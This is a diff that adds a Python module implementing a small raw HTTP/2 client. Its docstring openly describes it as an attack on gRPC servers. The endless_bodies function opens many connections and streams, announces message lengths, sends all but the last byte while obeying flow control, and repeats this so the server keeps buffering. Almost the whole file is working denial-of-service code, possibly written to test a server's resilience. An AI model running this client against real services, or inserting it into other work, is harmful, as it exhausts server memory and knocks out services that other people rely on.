@@ -1,0 +1,222 @@
+"""An HTTP/2 client of a few frames, to do what no well-behaved gRPC client does.
+
+It keeps to flow control, as an attacker has to who wants the server to buffer: bytes beyond the window break
+the connection and with it the attack.
+"""
+
+import asyncio
+from collections.abc import AsyncIterator, Iterable
+from contextlib import asynccontextmanager
+from itertools import count
+from typing import Self
+
+_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
+_DATA, _HEADERS, _RST, _SETTINGS, _PING, _GOAWAY, _WINDOW = 0, 1, 3, 4, 6, 7, 8
+_ACK, _END_HEADERS = 1, 4
+_INITIAL_WINDOW_SETTING = 4
+_FRAME_BYTES = 16_384
+
+
+class Gone(Exception):
+    """The server closed the connection or reset the stream."""
+
+
+class Connection:
+    """One connection. ``sent`` counts the bytes of bodies that the server took."""
+
+    def __init__(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
+        self._reader, self._writer = reader, writer
+        self._streams = count(1, 2)
+        self._window = self._initial = 65_535
+        self._stream_windows: dict[int, int] = {}
+        self._news = asyncio.Condition()
+        self.open: set[int] = set()
+        self.answered: set[int] = set()
+        self.ended = False
+        self.sent = 0
+        self._task = asyncio.create_task(self._read())
+
+    @classmethod
+    async def dial(cls, target: str) -> Self:
+        """Connects and exchanges settings."""
+        host, _, port = target.rpartition(":")
+        reader, writer = await asyncio.open_connection(host.strip("[]"), int(port))
+        writer.write(_PREFACE + _frame(_SETTINGS, 0, 0, b""))
+        return cls(reader, writer)
+
+    async def call(self, method: str, metadata: Iterable[tuple[str, str]] = ()) -> int:
+        """Opens a stream for ``/package.Service/Method``; its identifier."""
+        number = next(self._streams)
+        fields = [
+            (":method", "POST"),
+            (":scheme", "http"),
+            (":path", method),
+            (":authority", "localhost"),
+            ("content-type", "application/grpc"),
+            ("te", "trailers"),
+            *metadata,
+        ]
+        block = b"".join(b"\0" + _text(name) + _text(value) for name, value in fields)
+        self._stream_windows[number] = self._initial
+        self.open.add(number)
+        self._writer.write(_frame(_HEADERS, _END_HEADERS, number, block))
+        await self._drain()
+        return number
+
+    async def begin_message(self, stream: int, length: int) -> None:
+        """Sends a message's prefix: what follows is of ``length`` bytes, as far as the server knows."""
+        await self.body(stream, b"\0" + length.to_bytes(4, "big"))
+
+    async def body(self, stream: int, data: bytes) -> None:
+        """Sends part of a body, as the windows allow."""
+        while data:
+            async with self._news:
+                await self._news.wait_for(lambda: self._room(stream) > 0 or self._over(stream))
+            if self._over(stream):
+                raise Gone
+            size = min(self._room(stream), _FRAME_BYTES, len(data))
+            self._window -= size
+            self._stream_windows[stream] -= size
+            self._writer.write(_frame(_DATA, 0, stream, data[:size]))
+            self.sent += size
+            data = data[size:]
+            await self._drain()
+
+    async def wait_over(self, stream: int) -> None:
+        """Waits until the server ended the stream or the connection."""
+        async with self._news:
+            await self._news.wait_for(lambda: self._over(stream))
+
+    async def close(self) -> None:
+        """Hangs up."""
+        self._task.cancel()
+        self._writer.transport.abort()
+        await asyncio.wait([self._task])
+
+    def _over(self, stream: int) -> bool:
+        return self.ended or stream not in self.open
+
+    def _room(self, stream: int) -> int:
+        return min(self._window, self._stream_windows.get(stream, 0))
+
+    async def _drain(self) -> None:
+        try:
+            await self._writer.drain()
+        except OSError as error:
+            raise Gone from error
+
+    async def _read(self) -> None:
+        try:
+            while True:
+                head = await self._reader.readexactly(9)
+                size, kind, flags = int.from_bytes(head[:3], "big"), head[3], head[4]
+                stream = int.from_bytes(head[5:], "big") & 0x7FFFFFFF
+                body = await self._reader.readexactly(size)
+                async with self._news:
+                    self._take(kind, flags, stream, body)
+                    self._news.notify_all()
+                if kind == _GOAWAY:
+                    return
+        except (OSError, asyncio.IncompleteReadError):
+            return
+        finally:
+            self.ended = True
+            async with self._news:
+                self._news.notify_all()
+
+    def _take(self, kind: int, flags: int, stream: int, body: bytes) -> None:
+        match kind:
+            case 4 if not flags & _ACK:
+                for at in range(0, len(body), 6):
+                    if int.from_bytes(body[at : at + 2], "big") == _INITIAL_WINDOW_SETTING:
+                        new = int.from_bytes(body[at + 2 : at + 6], "big")
+                        for number in self._stream_windows:
+                            self._stream_windows[number] += new - self._initial
+                        self._initial = new
+                self._writer.write(_frame(_SETTINGS, _ACK, 0, b""))
+            case 6 if not flags & _ACK:
+                self._writer.write(_frame(_PING, _ACK, 0, body))
+            case 8:
+                size = int.from_bytes(body, "big")
+                if stream:
+                    self._stream_windows[stream] = self._stream_windows.get(stream, 0) + size
+                else:
+                    self._window += size
+            case 1:
+                self.answered.add(stream)
+                if flags & 1:
+                    self.open.discard(stream)
+            case 3:
+                self.open.discard(stream)
+            case _:
+                pass
+
+
+@asynccontextmanager
+async def endless_bodies(
+    target: str,
+    method: str,
+    *,
+    length: int,
+    connections: int = 10,
+    streams: int = 100,
+    metadata: Iterable[tuple[str, str]] = (),
+) -> AsyncIterator[list[Connection]]:
+    """Sends messages that never end for as long as the block lasts, anew whenever the server ends one.
+
+    Args:
+        target: Where.
+        method: ``/package.Service/Method``.
+        length: Bytes that each message claims to have; the last one is never sent. More than the server takes
+            would be refused by the claim.
+        connections: Connections.
+        streams: Streams of each at once.
+        metadata: Of each call.
+    """
+    given = list(metadata)
+    made: list[Connection] = []
+
+    async def one(connection: Connection) -> None:
+        while not connection.ended:
+            try:
+                stream = await connection.call(method, given)
+                await connection.begin_message(stream, length)
+                await connection.body(stream, bytes(length - 1))
+                await connection.wait_over(stream)
+            except Gone:
+                await asyncio.sleep(0.02)
+
+    async def many() -> None:
+        while True:
+            try:
+                connection = await Connection.dial(target)
+            except OSError:
+                await asyncio.sleep(0.1)
+                continue
+            made.append(connection)
+            await asyncio.gather(*(one(connection) for _ in range(streams)))
+
+    tasks = [asyncio.create_task(many()) for _ in range(connections)]
+    try:
+        yield made
+    finally:
+        for task in tasks:
+            task.cancel()
+        await asyncio.gather(*tasks, return_exceptions=True)
+        for connection in made:
+            await connection.close()
+
+
+def _frame(kind: int, flags: int, stream: int, body: bytes) -> bytes:
+    return len(body).to_bytes(3, "big") + bytes((kind, flags)) + stream.to_bytes(4, "big") + body
+
+
+def _text(text: str) -> bytes:
+    raw = text.encode()
+    if len(raw) < 127:
+        return bytes((len(raw),)) + raw
+    rest, length = len(raw) - 127, b"\x7f"
+    while rest >= 128:
+        length += bytes((rest % 128 + 128,))
+        rest //= 128
+    return length + bytes((rest,)) + raw
